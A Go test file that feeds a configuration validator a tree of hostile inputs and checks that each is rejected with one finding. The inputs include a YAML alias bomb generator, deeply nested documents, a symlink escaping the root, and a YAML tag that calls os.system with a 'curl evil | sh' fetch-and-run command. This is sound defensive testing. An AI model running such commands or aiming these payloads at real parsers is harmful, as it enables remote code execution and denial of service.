package check_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/phasegate/phasegate/internal/check"
	"github.com/phasegate/phasegate/internal/config"
)

// hostileFile is one file of the hostile tree and the one finding it must
// give. Each hostile file is alone in its unit (its own .pipeline/<id>), so
// no cross-file rule sees it, and each fails to decode, so its kind's schema
// is never reached.
type hostileFile struct {
	name string
	path string
	data []byte
	// link, when set, makes path a symlink to this file outside the root
	// (written with data), instead of a file.
	link bool
	// The finding: rule, kind and position. An empty rule means the file
	// is not an artifact and gives no finding at all.
	rule      string
	kind      string
	line, col int
}

// aliasBomb is the YAML "billion laughs": about 500 bytes that would expand
// to 10^9 strings.
func aliasBomb() []byte {
	var b strings.Builder
	b.WriteString("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n")
	prev := "a"
	for _, name := range []string{"b", "c", "d", "e", "f", "g", "h", "i"} {
		b.WriteString(name + ": &" + name + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 9), ",") + "]\n")
		prev = name
	}
	return []byte(b.String())
}

func hostileFiles() []hostileFile {
	var block strings.Builder
	for i := 0; i < 100; i++ {
		block.WriteString(strings.Repeat("  ", i) + "level:\n")
	}
	// A file over 1 MiB that is valid JSON: only the size refuses it.
	huge := []byte(`{"pad":"` + strings.Repeat("x", 1<<20) + `"}`)
	return []hostileFile{
		{name: "huge file", path: ".pipeline/huge/plan.json", data: huge,
			rule: "limits.file-size", kind: "jg.plan", line: 1, col: 1},
		{name: "alias bomb", path: ".pipeline/bomb/state.yaml", data: aliasBomb(),
			rule: "limits.alias-expansion", kind: "jg.state", line: 5, col: 8},
		{name: "deep YAML flow", path: ".pipeline/flow/state.yaml", data: []byte("a: " + strings.Repeat("[", 100) + strings.Repeat("]", 100) + "\n"),
			rule: "limits.depth", kind: "jg.state", line: 1, col: 67},
		{name: "deep YAML block", path: ".pipeline/block/state.yaml", data: []byte(block.String()),
			rule: "limits.depth", kind: "jg.state", line: 65, col: 129},
		{name: "deep JSON", path: ".pipeline/deep/plan.json", data: []byte(strings.Repeat(`{"a":[`, 50) + strings.Repeat(`]}`, 50)),
			rule: "limits.depth", kind: "jg.plan", line: 1, col: 6*32 + 1},
		{name: "invalid UTF-8", path: ".pipeline/latin1/plan.json", data: []byte("{\n  \"title\": \"caf\xe9\"\n}\n"),
			rule: "encoding", kind: "jg.plan", line: 2, col: 16},
		{name: "duplicate YAML key", path: ".pipeline/dupyaml/state.yaml", data: []byte("issue: 1\nstatus: done\nissue: 2\n"),
			rule: "yaml.duplicate-key", kind: "jg.state", line: 3, col: 1},
		{name: "duplicate JSON key", path: ".pipeline/dupjson/test-result.json", data: []byte("{\n  \"verdict\": \"FAIL\",\n  \"verdict\": \"PASS\"\n}\n"),
			rule: "yaml.duplicate-key", kind: "jg.test-result", line: 3, col: 3},
		{name: "object-constructing tag", path: ".pipeline/tag/state.yaml", data: []byte("issue: 1\nhook: !!python/object/apply:os.system [\"curl evil | sh\"]\n"),
			rule: "yaml.tag", kind: "jg.state", line: 2, col: 7},
		{name: "binary named like an artifact", path: ".pipeline/binary/state.yaml", data: []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
			rule: "encoding", kind: "jg.state", line: 1, col: 8},
		{name: "binary named .yaml, not an artifact", path: "assets/logo.yaml", data: []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")},
		// The target is not valid JSON: reading it would add a syntax
		// finding, so exactly one finding proves it was never read.
		{name: "symlink escaping the root", path: ".pipeline/link/plan.json", data: []byte("{not json"), link: true,
			rule: "discovery.symlink-escape", kind: "jg.plan", line: 1, col: 1},
	}
}

const goodGate = `day: 1
agent: GATE
criteria_results:
  - criterion: "User.create() stores bcrypt-hashed password"
    result: PASS
    evidence: "tests/test_user_model.py::test_create_hashes_password PASSED"
blockers: []
deferred: []
gate_decision: SHIP
hold_reason: ""
`

// badGate is the good gate report with a schema error, to prove the good
// artifact is really checked (not skipped) in the hostile tree.
const badGate = `day: 1
agent: GATE
criteria_results: []
blockers: []
deferred: []
gate_decision: MAYBE
hold_reason: ""
`

// hostileTree writes the hostile files and the gate report under a new
// temporary root.
func hostileTree(tb testing.TB, gate string) string {
	tb.Helper()
	root := tb.TempDir()
	outside := tb.TempDir()
	write := func(p string, data []byte) {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			tb.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			tb.Fatal(err)
		}
	}
	for i, h := range hostileFiles() {
		full := filepath.Join(root, filepath.FromSlash(h.path))
		if h.link {
			target := filepath.Join(outside, fmt.Sprintf("target-%d", i))
			write(target, h.data)
			if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
				tb.Fatal(err)
			}
			if err := os.Symlink(target, full); err != nil {
				tb.Skipf("symlinks unavailable: %v", err)
			}
			continue
		}
		write(full, h.data)
	}
	write(filepath.Join(root, ".pace", "day-1", "gate-report.yaml"), []byte(gate))
	return root
}

func TestHostileTree(t *testing.T) {
	v, err := check.NewValidator()
	if err != nil {
		t.Fatal(err)
	}
	root := hostileTree(t, goodGate)
	res, err := v.Run(context.Background(), root, check.Options{Config: config.Default()})
	if err != nil {
		t.Fatal(err)
	}
	byFile := map[string][]check.Finding{}
	for _, f := range res.Findings {
		byFile[f.File] = append(byFile[f.File], f)
	}
	artifacts := 1 // the gate report
	for _, h := range hostileFiles() {
		t.Run(h.name, func(t *testing.T) {
			got := byFile[h.path]
			if h.rule == "" {
				if len(got) != 0 {
					t.Errorf("not an artifact, yet findings: %+v", got)
				}
				return
			}
			if len(got) != 1 {
				t.Fatalf("%d findings, want exactly one %s: %+v", len(got), h.rule, got)
			}
			f := got[0]
			if f.Rule != h.rule || f.Kind != h.kind || f.Severity != check.SeverityError {
				t.Errorf("finding = %+v, want rule %s, kind %s, error", f, h.rule, h.kind)
			}
			if f.Line != h.line || f.Column != h.col {
				t.Errorf("finding at %d:%d, want %d:%d (%s)", f.Line, f.Column, h.line, h.col, f.Message)
			}
			if f.Message == "" || len(f.Message) > 300 {
				t.Errorf("message %q: want a short explanation", f.Message)
			}
		})
		if h.rule != "" {
			artifacts++
		}
	}
	if got := byFile[".pace/day-1/gate-report.yaml"]; len(got) != 0 {
		t.Errorf("the good gate report has findings: %+v", got)
	}
	if res.Artifacts != artifacts {
		t.Errorf("Artifacts = %d, want %d (every hostile artifact and the gate report)", res.Artifacts, artifacts)
	}
	for _, f := range res.Findings {
		if _, known := byFile[f.File]; !known || strings.HasPrefix(f.File, "/") || strings.Contains(f.File, "..") {
			t.Errorf("unexpected finding %+v", f)
		}
	}
	if len(byFile) != artifacts-1 {
		t.Errorf("findings on %d files, want %d: %v", len(byFile), artifacts-1, keys(byFile))
	}
}

// TestHostileTreeStillChecksTheGoodArtifact: the same tree with a broken
// gate report reports it, so the silence above means "checked and valid".
func TestHostileTreeStillChecksTheGoodArtifact(t *testing.T) {
	v, err := check.NewValidator()
	if err != nil {
		t.Fatal(err)
	}
	res, err := v.Run(context.Background(), hostileTree(t, badGate), check.Options{Config: config.Default()})
	if err != nil {
		t.Fatal(err)
	}
	var schema int
	for _, f := range res.Findings {
		if f.File == ".pace/day-1/gate-report.yaml" && f.Rule == check.RuleSchema && f.Line == 6 {
			schema++
		}
	}
	if schema == 0 {
		t.Errorf("no schema finding on line 6 (gate_decision: MAYBE) of the broken gate report; findings: %+v", res.Findings)
	}
}

// BenchmarkHostileTree measures a whole run over the hostile tree: the alias
// bomb, the deep nesting and the huge file must cost about what ordinary
// files cost (the huge file is not read past its head).
func BenchmarkHostileTree(b *testing.B) {
	v, err := check.NewValidator()
	if err != nil {
		b.Fatal(err)
	}
	root := hostileTree(b, goodGate)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := v.Run(context.Background(), root, check.Options{Config: config.Default()}); err != nil {
			b.Fatal(err)
		}
	}
}

func keys(m map[string][]check.Finding) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}
